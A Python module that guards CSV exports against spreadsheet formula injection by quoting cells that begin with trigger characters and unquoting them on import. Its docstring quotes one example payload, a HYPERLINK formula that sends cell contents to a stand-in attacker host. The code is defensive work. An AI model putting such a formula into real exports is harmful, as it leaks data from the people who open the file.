"""Keeping spreadsheet formulas out of the CSV files we write (OWASP's "CSV injection").

A spreadsheet that opens a CSV runs a cell starting with ``=``, ``+``, ``-`` or ``@`` (a tab or carriage
return first does not stop it) as a formula, so a listing named ``=HYPERLINK("http://evil.example/?"&A1)``
would become a live link in whoever opens the export. Every CSV writer passes each cell through
``neutralise``, which puts a single quote in front of such a cell, and every CSV reader passes each cell
through ``restore``, which takes it off again, so an export imports back exactly.

The quote is itself escaped: a cell already starting with quotes and then a trigger (``'=x``) gets one more
(``''=x``), so ``restore`` always takes off exactly one. A quote before anything else (``'Tis``) is left
alone both ways.

Numbers get the quote too (``-1`` is written ``'-1``, ``+44 1225…`` as ``'+44 1225…``), as OWASP advises:
``-2+3`` is a formula as well, and telling numbers from formulas is a spreadsheet's job, not ours. No
column of ours holds a negative number (ages are 0 to 120), and ``restore`` reads ``'-1`` back as ``-1``,
so a hand-edited file is checked exactly as if the quote were not there.
"""

import re

# Quotes, then one of the characters OWASP names.
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def neutralise(cell: str) -> str:
    """The cell as a spreadsheet must get it: text, never a formula."""
    return "'" + cell if _FORMULA.match(cell) else cell


def restore(cell: str) -> str:
    """The text ``neutralise`` was given; any other cell as it is."""
    return cell[1:] if cell.startswith("'") and _FORMULA.match(cell) else cell
